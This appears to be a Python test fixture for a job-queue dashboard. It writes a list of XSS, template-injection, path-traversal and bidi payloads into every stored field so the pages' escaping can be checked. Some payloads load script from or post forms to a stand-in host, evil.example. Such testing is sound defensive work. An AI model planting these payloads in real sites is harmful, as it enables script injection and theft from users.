"""Names and values that mean harm, and a way to put one into every field that SQL lets it into."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from typing import Any
from uuid import UUID

from psycopg import sql

from rowlock.model.ids import new_id
from tests.rows import Db

PAYLOADS: tuple[str, ...] = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1) `",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=data:text/html,x>x</a>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</main><script>alert(1)</script>",
    "</dialog></form><script>alert(1)</script>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "</svg><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{7*7}}",
    "{% for x in [1] %}49{% endfor %}",
    "{{ config.__class__.__mro__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "\u202e>tpircs<\u202d RTL \u2066evil\u2069",
    "a/b?c=d#e&f=g;h",
    "../../etc/passwd",
    "//evil.example/x",
    "data: x\n\nevent: page\ndata: <b>x</b>",
)
"""Each is meant to become an element, an attribute, an address or a value where it is shown carelessly."""


@dataclass
class Filled:
    """The ids and names under which the pages show what was put in."""

    jobs: list[UUID] = field(default_factory=list)
    workflows: list[UUID] = field(default_factory=list)
    schedules: list[str] = field(default_factory=list)
    queues: list[str] = field(default_factory=list)
    tasks: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class Words:
    """What is put in: a name where a name is, data where users' data is, and a text where people write."""

    text: str
    name: str
    data: Any
    failure: str

    @property
    def error(self) -> dict[str, Any]:
        """What an attempt, or a step, has failed of."""
        said = self.failure
        frames = f'Traceback (most recent call last):\n  File "{said}", line 1, in {said}\n    {said}\n{said}: {said}\n'
        return {"type": self.name, "message": said, "traceback": frames}


def fill(
    db: Db, text: str, filled: Filled | None = None, *, name: str | None = None, data: str | None = None
) -> Filled:
    """Put a text into every field of ours that SQL lets it into.

    `name` stands where a name is, and `data` where users' data is, if that is another.
    """
    filled = filled or Filled()
    words = Words(text, _fitting(name or text, 200), value(data or text), data or text)
    _jobs(db, words, filled)
    _workflows(db, words, filled)
    _schedule(db, words, filled)
    _workers(db, words, filled)
    _rest(db, words, filled)
    return filled


def value(text: str) -> dict[str, Any]:
    """A JSON value that holds the text as a key, as a value, and deeper."""
    return {"plain": text, text: "as a key", "list": [text, {"deep": {"deeper": text}}]}


def _jobs(db: Db, words: Words, filled: Filled) -> None:
    now, name = datetime.now(UTC), words.name
    filled.queues.append(name)
    filled.tasks.append(name)
    live = {"queue": name, "task": name, "args": words.data, "tags": [name], "errors": [_of_attempt(words)]}
    live |= {"attempts": 3, "run_at": now, "created_at": now, "reason": words.text, "progress": _progress(words.text)}
    ready = live | {"failures": 1, "claims": 1, "run_at": now + timedelta(hours=1)}
    running = live | {"state": "running", "token": new_id(), "worker": new_id(), "started_at": now}
    waiting = live | {"state": "waiting", "waits_for": "code"}
    keyed = live | {"key": f"{words.text}-{new_id()}"[-400:]}
    counts = {"priority": 0, "failures": 1, "crashes": 0, "claims": 1, "worker": new_id(), "started_at": now}
    ended = live | counts | {"ended_at": now, "expires_on": now.date() + timedelta(days=7), "result": words.data}
    filled.jobs += [put(db, "jobs", row) for row in (ready, running, waiting, keyed)]
    filled.jobs += [put(db, "history", ended | {"state": state}) for state in ("failed", "cancelled", "succeeded")]


def _workflows(db: Db, words: Words, filled: Filled) -> None:
    now, name = datetime.now(UTC), words.name
    row = {"queue": name, "task": name, "args": words.data, "attempts": 1, "run_at": now, "created_at": now}
    row |= {
        "version": 1,
        "claims": 1,
        "workflow_state": words.data,
        "reason": words.text,
        "errors": [_of_attempt(words)],
    }
    waiting = put(db, "jobs", row | {"state": "waiting", "waits_for": "signal", "wakes_at": 9})
    steps = [*_steps(words, now)]
    for step in steps:
        put(db, "steps", step | {"job": waiting}, with_id=False)
    signal = {"number": 1, "name": name, "payload": words.data, "key": words.text[:400], "sent_at": now}
    put(db, "signals", signal | {"job": waiting})
    folded = {"steps": [_plain(step) for step in steps], "signals": [_plain(signal | {"id": new_id()})]}
    ended = row | {"state": "failed", "priority": 0, "failures": 1, "crashes": 0, "result": words.data, "steps": folded}
    ended |= {"ended_at": now, "expires_on": now.date() + timedelta(days=7)}
    filled.workflows += [waiting, put(db, "history", ended)]
    child = row | {"parent": waiting, "version": None, "workflow_state": None}
    filled.jobs.append(put(db, "jobs", child))


def _steps(words: Words, now: datetime) -> Iterator[dict[str, Any]]:
    plain = {"input": words.data, "value": words.data, "error": words.error, "started_at": now, "attempts": 1}
    said = words.failure
    asked = {"type": "string", "title": said, "description": said, "enum": [said, "b"], "default": said}
    forms = {"type": "object", "title": said, "required": [said], "properties": {said: asked}}
    kinds = (
        ("step", "done"),
        ("step", "failed"),
        ("step", "retrying"),
        ("signal", "open"),
        ("sleep", "open"),
        ("undo", "done"),
    )
    for position, (kind, state) in enumerate(kinds):
        ended = {"ended_at": now} if state in {"done", "failed"} else {"until": now + timedelta(hours=1)}
        form = {"form": forms} if kind == "signal" else {}
        key = f"{words.name}#{position + 1}"
        yield plain | ended | form | {"key": key, "position": position, "kind": kind, "state": state}


def _schedule(db: Db, words: Words, filled: Filled) -> None:
    now = datetime.now(UTC)
    own = f"{_fitting(words.name, 60)} {new_id()[-12:]}"
    declared = {
        "name": own,
        "cron": "0 3 * * *",
        "task": words.name,
        "args": json.dumps(words.data),
        "queue": words.name,
    }
    row = {"name": own, "cron": "0 3 * * *", "tz": "UTC", "task": words.name, "args": words.data, "queue": words.name}
    row |= {
        "attempts": 3,
        "tags": [words.name],
        "next_at": now + timedelta(days=1),
        "created_at": now,
        "paused_at": now,
    }
    row |= {"priority": 0, "jitter": timedelta(0), "overlap": "skip", "catch_up": 1, "at_boot": False}
    row |= {"paused_by": words.text, "paused_why": words.text, "declared": declared}
    put(db, "schedules", row | {"edits": {"args": words.data, "why": words.text, "by": words.text}}, with_id=False)
    passed = {"schedule": own, "slot": now - timedelta(hours=1), "reason": words.text, "at": now}
    fired = {"schedule": own, "slot": now - timedelta(hours=2), "job": filled.jobs[0], "at": now}
    for firing in (passed, fired):
        put(db, "firings", firing, with_id=False)
    filled.schedules.append(own)


def _workers(db: Db, words: Words, filled: Filled) -> None:
    now, name = datetime.now(UTC), words.name
    worker = {"host": words.text, "pid": 7, "queues": [name], "slots": 4, "tasks": [name], "schedules": [name]}
    worker |= {"version": words.text, "started_at": now, "lasts": timedelta(seconds=30)}
    lives = put(db, "workers", worker | {"lease": now + timedelta(hours=1)})
    put(db, "workers", worker | {"lease": now - timedelta(hours=1)})
    db.execute("update rowlock.jobs set worker = %s where id = any(%s) and state = 'running'", [lives, filled.jobs])
    minute = {"minute": now.replace(second=0, microsecond=0) - timedelta(minutes=2), "worker": lives, "queue": name}
    counts = dict.fromkeys(("claimed", "succeeded", "failed", "retried"), 3) | {"cancelled": 0}
    times = {"seconds": 1.0, "slowest": 1.0, "durations": 0, "waited": 1.0, "longest": 1.0, "waits": 0}
    put(db, "minutes", minute | {"task": name} | counts | times, with_id=False)


def _rest(db: Db, words: Words, filled: Filled) -> None:
    now, text = datetime.now(UTC), words.text
    for kind in ("queue", "task"):
        pause = {"kind": kind, "name": f"{_fitting(words.name, 150)} {new_id()[-12:]}", "actor": text, "reason": text}
        put(db, "pauses", pause | {"at": now}, with_id=False)
    details = {"why": text, "queue": text, "task": text, "schedule": text, text: text, "changes": {"args": words.data}}
    about = ((text, None), ("retried", filled.jobs[0]), ("paused", None), ("edited", None), ("forked", filled.jobs[0]))
    for kind, job in about:
        put(db, "events", {"kind": kind, "job": job, "actor": text, "details": details, "at": now})


def _of_attempt(words: Words) -> dict[str, Any]:
    moment = datetime.now(UTC).isoformat()
    return words.error | {"attempt": 1, "worker": None, "started_at": moment, "ended_at": moment}


def _progress(text: str) -> dict[str, Any]:
    return {"share": 0.5, "note": text, "at": datetime.now(UTC).isoformat()}


def _fitting(text: str, limit: int) -> str:
    return text.encode()[:limit].decode(errors="ignore")


def put(db: Db, table: str, row: dict[str, Any], *, with_id: bool = True) -> UUID:
    """One row; dicts and lists of them are JSON."""
    row = ({"id": new_id()} if with_id else {}) | row
    text = sql.SQL("insert into {} ({}) values ({})").format(
        sql.Identifier("rowlock", table),
        sql.SQL(", ").join(map(sql.Identifier, row)),
        sql.SQL(", ").join(sql.Placeholder(name) + sql.SQL("::json[]" if name == "errors" else "") for name in row),
    )
    db.execute(text, {name: _stored(one) for name, one in row.items()})
    return UUID(str(row.get("id", UUID(int=0))))


def _stored(one: Any) -> Any:  # noqa: ANN401  whatever a column takes
    match one:
        case dict():
            return json.dumps(one)
        case [dict(), *_]:
            return [json.dumps(each) for each in one]
        case _:
            return one


def _plain(row: dict[str, Any]) -> dict[str, Any]:
    """A row as history folds it."""
    return {name: str(one) if isinstance(one, datetime | date | UUID) else one for name, one in row.items()}
